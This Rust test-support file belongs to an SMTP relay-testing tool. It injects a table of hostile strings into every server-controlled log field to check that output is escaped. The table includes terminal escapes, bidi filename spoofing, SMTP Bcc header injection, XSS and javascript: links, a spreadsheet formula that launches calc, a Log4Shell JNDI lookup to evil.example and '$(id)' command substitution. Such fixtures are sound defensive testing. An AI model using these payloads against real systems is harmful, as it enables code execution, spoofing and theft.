//! Hostile text of every kind, wherever a server, its names or its certificate can put it.

#![allow(dead_code, reason = "each suite looks at other things")]

use norelay_core::{
    event::{Event, Record},
    octets::Octets,
    replay::read_log,
    smtp::{Cause, End, Reply, Violation},
};

/// What stands beside the hostile text, so that it is known to have been shown.
pub const MARK: &str = "h0stile";

pub const KINDS: &[(&str, &[u8])] = &[
    ("C0", b"\x01\x07\x08\x0b\x0c\x0e\x1b[2J\x1b[31m\x7f"),
    ("C1", "\u{9b}2J\u{85}\u{90}x\u{9c}".as_bytes()),
    ("C1 in one octet", b"\x9b2J\x90x\x9c"),
    ("OSC 8", b"\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x07"),
    ("NUL", b"a\0b"),
    ("no UTF-8", b"\xff\xfe\xc3\x28\xed\xa0\x80"),
    ("bidirectional", "\u{202e}\u{2066}\u{200f}\u{61c}\u{2069}gpj.exe".as_bytes()),
    ("invisible", "\u{200b}\u{feff}\u{2060}\u{ad}\u{e0041}".as_bytes()),
    (
        "line breaks",
        "x\r\n250 2.1.5 Ok\r\nBcc: \
                     victim@example.net\r\n\r\n\u{2028}\u{2029}\u{85}y"
            .as_bytes(),
    ),
    ("HTML", b"<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>"),
    ("attributes", b"\" onmouseover=\"x ' onfocus='x' autofocus `x`"),
    ("the end of an element", b"</code></pre></td></table></title></textarea><b>--></style>"),
    ("CDATA", b"]]><x/><![CDATA[ &amp; &#60;script&#62; <!ENTITY x>"),
    ("formulas", b"=cmd|'/c calc'!A1"),
    ("formulas after a tab", b"\t=1+1"),
    ("more formulas", b"@SUM(1+1)*cmd"),
    ("a negative formula", b"-2+3+cmd"),
    ("a formula in full width", "\u{ff1d}1+1".as_bytes()),
    ("cells", b"\",\"=1\"\r\n\"=1\";=1"),
    ("format strings", b"%s%n%x%1$s {0} {domain} ${jndi:ldap://evil.example/x} $(id) `id` {{7*7}}"),
    ("mentions", b"@everyone @here @octocat <!channel> <@U1> @all !1 #1"),
    (
        "links",
        b"[x](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example> \
                http://evil.example www.evil.example",
    ),
    ("blocks", b"# x ~~~ ``` ```` > x | a | b | ***x*** ~~x~~ --- 1. x"),
    ("metrics", b"mx\",code=\"550\"} 1\nnorelay_tests_total 9\n| relayed=9;;;0"),
];

/// A reply whose last line is the text.
fn put_in(reply: &mut Reply, text: &[u8]) {
    reply.lines.push(Octets::from(text));
}

/// Puts a text wherever a server, its names or its certificate have a say.
fn put(event: &mut Event, text: &[u8]) {
    let words = || String::from_utf8_lossy(text).into_owned();
    match event {
        Event::RunStarted(run) => run.target.push_str(&words()),
        Event::Resolved { exchangers } => exchangers
            .iter_mut()
            .for_each(|exchanger| exchanger.name = Some(words())),
        Event::PathAdded { destination, .. } => destination.host = Some(words()),
        Event::Secured { tls, .. } => {
            (tls.subject, tls.issuer) = (Some(Octets::from(text)), Some(Octets::from(text)));
            tls.names.push(Octets::from(text));
            tls.troubles.push(words());
        }
        Event::Replied { reply, .. } => put_in(reply, text),
        Event::Noted { arguments, .. } => arguments
            .iter_mut()
            .for_each(|argument| *argument = Octets::from(text)),
        Event::NotRun { why, .. } => why.push_str(&words()),
        Event::GivenUp { cause, .. } => put_in_cause(cause, text),
        Event::Ended { end: End::Interrupted(cause), .. } => put_in_cause(cause, text),
        Event::Ended { end: End::NotOffered(keyword), .. } => keyword.push_str(&words()),
        Event::Received(receipt) => {
            (receipt.helo, receipt.reverse_path) = (Octets::from(text), Octets::from(text));
            receipt.received.push(Octets::from(text));
        }
        _ => {}
    }
}

fn put_in_cause(cause: &mut Cause, text: &[u8]) {
    match cause {
        Cause::ConnectFailed { error, .. } | Cause::TlsFailed { error } => {
            error.push_str(&String::from_utf8_lossy(text));
        }
        Cause::Closing { reply, .. } => put_in(reply, text),
        Cause::Violated { violation, .. } => match violation {
            Violation::Unsolicited { reply } | Violation::Misplaced { reply } => {
                put_in(reply, text)
            }
            Violation::NotAReply { line } => *line = Octets::from(text),
            _ => {}
        },
        _ => {}
    }
}

/// The records of a log, with the text in them; it stands before the mark, and nothing before it.
pub fn records(log: &str, text: &[u8]) -> Vec<Record> {
    let text = [text, MARK.as_bytes()].concat();
    let mut records = read_log(log).records;
    records
        .iter_mut()
        .for_each(|record| put(&mut record.event, &text));
    records
}

/// Controls, and what can't be seen and turns what can (Unicode's bidirectional and format
/// characters).
pub fn acts(character: char) -> bool {
    let is_control = character.is_control() && !matches!(character, '\n' | '\r');
    is_control
        || matches!(character, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
        || matches!(character, '\u{200b}'..='\u{200d}' | '\u{ad}' | '\u{e0000}'..='\u{e0fff}')
}
